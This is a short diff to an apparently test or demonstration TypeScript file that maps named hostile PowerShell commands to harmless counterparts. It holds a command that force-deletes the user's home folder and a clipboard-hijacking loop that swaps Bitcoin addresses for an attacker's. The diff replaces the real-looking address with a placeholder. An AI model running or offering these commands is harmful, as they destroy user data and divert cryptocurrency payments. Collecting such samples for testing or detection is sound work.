@@ -162,7 +162,7 @@ export const POWERSHELL_DEEDS: Readonly<Record<string, PowerShellDeed>> = {
   'wipe-home': deed(() => 'Remove-Item -Recurse -Force $env:USERPROFILE\\*', 'Remove-Item -Recurse -Force .\\build'),
   'clipboard-swap': deed(
     () =>
-      "while ($true) { $t = Get-Clipboard; if ($t -match '^(bc1|[13])[a-zA-Z0-9]{25,60}$') { Set-Clipboard 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq' }; Start-Sleep 1 }",
+      "while ($true) { $t = Get-Clipboard; if ($t -match '^(bc1|[13])[a-zA-Z0-9]{25,60}$') { Set-Clipboard 'bc1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqq' }; Start-Sleep 1 }",
     "Set-Clipboard 'ready'",
   ),
   screen: deed(
